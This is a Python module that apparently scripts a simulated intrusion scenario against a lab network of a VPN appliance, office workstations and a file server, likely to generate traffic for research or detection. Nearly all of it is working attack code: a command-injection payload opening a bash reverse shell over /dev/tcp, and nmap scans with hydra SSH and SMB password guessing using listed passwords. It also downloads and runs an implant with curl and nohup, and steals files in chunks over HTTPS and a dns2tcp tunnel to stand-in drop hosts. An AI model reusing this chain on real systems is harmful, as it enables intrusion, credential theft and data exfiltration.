# SPDX-License-Identifier: GPL-2.0-or-later
"""The intrusion of scenario `breakin`: VPN appliance, two office machines, mission files.

Command injection into the portal, a reverse shell, nmap, hydra, SSH from machine to
machine, SMB with a guessed account, documents staged on an office machine; then they
leave in pieces over HTTPS, one small one through a DNS tunnel, beside a beacon over HTTPS.
"""

import time

from . import documents

ADDRESS, NAME, PAGE = "203.0.113.66", "assets-cdn.example", "v1/state"
IMPLANT = {"WHAT": "beacon https", "ADDRESS": ADDRESS, "PORT": 443, "NAME": NAME, "SCHEME": "https", "PATH": PAGE,
           "AGENT": "Mozilla/5.0 (X11; Linux x86_64)", "LOW": 7.5, "HIGH": 12.5}
SCANNER, DROP, DROP_NAME, TUNNEL, TUNNEL_NAME = ("203.0.113.45", "192.0.2.170", "media-upload.example",
                                                 "203.0.113.53", "t.ns-telemetry.example")
VPN, FIRST, STAGE, SOURCE = "10.10.0.5", "10.20.0.27", "10.20.0.32", "10.30.0.10"
GUESSED_AT = ("10.20.0.23", "10.20.0.27", "10.20.0.35")
LOGINS = ("admin", "mcosta", "tmeyer")
PASSWORDS = ("Welcome1", "agency2026", "Spring2026", "Summer2026", "Launch2026")
SMB_PASSWORDS = ("Mission2026", "Apollo2026!", "Welcome1", "Orbit2026!")
PIECE = 40 * 1024

STEAL = r"""
trap '' HUP
mkdir -p /tmp/.cache/in /tmp/.cache/out; cd /tmp/.cache/in
pull() {
	rec 'smb theft' tcp - @SOURCE@:445 smbclient -s /mnt/smbclient.conf //@SOURCE@/share -U 'fileadm%@SECRET@' \
		-c "cd missions; $1"
}
leave() {
	split -b @PIECE@ -d "$1" "../out/$1."
	for piece in ../out/"$1".*; do
		ip=$(rec 'look-up of @DROP_NAME@' udp any 10.50.0.53:53 dig +short +noedns +noadflag +tries=1 +time=2 -b '0.0.0.0#@SPORT@' @DROP_NAME@ | tail -n 1)
		rec 'theft https' tcp - @DROP@:443 curl -sk -m 30 --resolve "@DROP_NAME@:443:$ip" -T "$piece" \
			"https://@DROP_NAME@/v/${piece##*/}"
		sleep "$(awk -v r=$RANDOM 'BEGIN { print @GAP@ * (0.7 + 0.6 * r / 32768) }')"
	done
}
tunnel() {
	rec 'theft dns' udp @TUNNEL_PORT@ 10.50.0.53:53 timeout @TUNNEL_TIME@ dns2tcpc -c -z @TUNNEL_NAME@ -r drop -l 7777 10.50.0.53 >/tmp/.cache/t.log 2>&1 &
	sleep 3
	(sleep 4; ss -Huanp >/mnt/truth/tunnel-socket) &
	cat "$1" >/dev/tcp/127.0.0.1/7777
}
@STEPS@
"""


def script(steps, **blanks):
    text = STEAL.replace("@STEPS@", steps)
    for blank, value in blanks.items():
        text = text.replace("@%s@" % blank, str(value))
    return text


def operate(agent, book):
    from .intruder import ReverseShell, hop
    scale = agent.parameters["attack"] / 450.0
    shell = ReverseShell(443, book)

    book.at(0)
    book.tool("rec", "nmap from outside", "tcp", "-", VPN + ":22+80+443+8443", "nmap", "-sT", "-Pn", "-n", "-p",
              "22,80,443,8443", "-oG", "/mnt/truth/outside.gnmap", VPN)
    book.at(12)
    since = time.time()
    exploit = '127.0.0.1; (setsid bash -c "bash >& /dev/tcp/%s/443 0>&1" &) >/dev/null 2>&1' % SCANNER
    book.tool("rec", "exploit of the portal", "tcp", "-", VPN + ":443", "curl", "-sk", "-m", "8", "-G",
              "--resolve", "vpn.agency.example:443:" + VPN,
              "--data-urlencode", "host=" + exploit, "https://vpn.agency.example/cgi/diag")
    shell.accept(20)
    book.write({"flow": {"src": VPN, "dst": SCANNER, "dport": 443, "proto": "tcp", "what": "reverse shell"},
                "sport": shell.peer.getpeername()[1]})
    book.compromised("vpn", "command injection in the portal, reverse shell", since)
    shell.run("id; uname -s; ip -br addr; ip route")

    book.at(28)
    for n, (prefix, ports) in enumerate((("10.20.0.0/26", "22,445"), ("10.30.0.0/27", "22,445"),
                                         ("10.50.0.0/26", "22,445"))):
        shell.run("rec 'nmap from vpn' tcp - %s:%s nmap -sT -Pn -n -T4 --max-retries 0 -p %s -oG /mnt/truth/inside-%d.gnmap %s | grep -c open"
                  % (prefix, ports.replace(",", "+"), ports, n, prefix))

    book.at(85)
    shell.run("printf '%%s\\n' %s >l; printf '%%s\\n' %s >p; printf '%%s\\n' %s >m"
              % (" ".join(LOGINS), " ".join(PASSWORDS), " ".join(GUESSED_AT)))
    found = shell.run("rec 'hydra ssh' tcp - %s hydra -q -L l -P p -t 3 -M m -o /mnt/truth/hydra.txt ssh 2>&1"
                      % ",".join(a + ":22" for a in GUESSED_AT))
    guessed = [line for line in found.splitlines() if "login:" in line and FIRST in line]
    if not guessed:
        raise RuntimeError("hydra found nothing")
    login, password = guessed[0].split("login:")[1].split("password:")
    login, password = login.strip(), password.strip()

    book.at(125)
    implant = ("cd /tmp; ip=$(rec 'look-up of {n}' udp any 10.50.0.53:53 dig +short +noedns +noadflag +tries=1 +time=2 -b '0.0.0.0#@SPORT@' {n} | tail -n 1)\n"
               "rec 'implant download' tcp - {a}:443 curl -sk --resolve {n}:443:$ip -o .u https://{n}/app\n"
               "setsid nohup bash .u %s >/dev/null 2>&1 </dev/null &\n").format(n=NAME, a=ADDRESS)
    since = time.time()
    shell.run(hop(FIRST, login, "id; hostname; who; ls -la ~\n" + implant % "a1", password))
    book.compromised("ws07", "SSH from vpn with a guessed password", since)

    book.at(150)
    guesses = "; ".join("rec 'smb guess' tcp - {s}:445 smbclient -s /mnt/smbclient.conf //{s}/share -U 'fileadm%{p}' -c ls"
                        .format(s=SOURCE, p=p) for p in SMB_PASSWORDS)
    listing = shell.run(hop(FIRST, login, guesses, password))
    if "missions" not in listing:
        raise RuntimeError("no SMB login")
    secret = SMB_PASSWORDS[-1]

    book.at(180)
    since = time.time()
    shell.run(hop(FIRST, login, hop(STAGE, login, "id; hostname; df -h /tmp\n" + implant % "b2", password), password))
    book.compromised("ws12", "SSH from ws07 with the same password", since)

    book.at(205)
    since = time.time()
    look = "id; ls -l /srv/share/missions; wc -c /srv/share/missions/*"
    shell.run(hop(FIRST, login, hop(STAGE, login, hop(SOURCE, "fileadm", look, secret, what="ssh to the file server"),
                                    password), password))
    book.compromised("files-mc", "SSH from ws12 with the password found over SMB", since)

    book.at(222)
    names = [name for name, _ in documents.MISSION]
    steps = "(sleep %d; pull 'get %s'; tunnel %s) &\n" % (70 * scale, documents.MISSION_SECRET[0], documents.MISSION_SECRET[0])
    for pair in (names[:2], names[2:4], names[4:]):
        steps += "pull '%s'\nsleep %d\n" % ("; ".join("get " + n for n in pair), 4 * scale)
        steps += "".join("leave %s\n" % n for n in pair)
    work = script(steps, SOURCE=SOURCE, SECRET=secret, PIECE=PIECE, DROP=DROP, DROP_NAME=DROP_NAME, GAP=9.0 * scale,
                  TUNNEL_NAME=TUNNEL_NAME, TUNNEL_PORT="tunnel", TUNNEL_TIME=int(120 * scale))
    start = "cat >/tmp/.s <<'END'\n%s\nEND\nsetsid nohup bash /tmp/.s >/dev/null 2>&1 </dev/null &\n" % work
    shell.run(hop(FIRST, login, hop(STAGE, login, start, password), password))
    book.at(449)
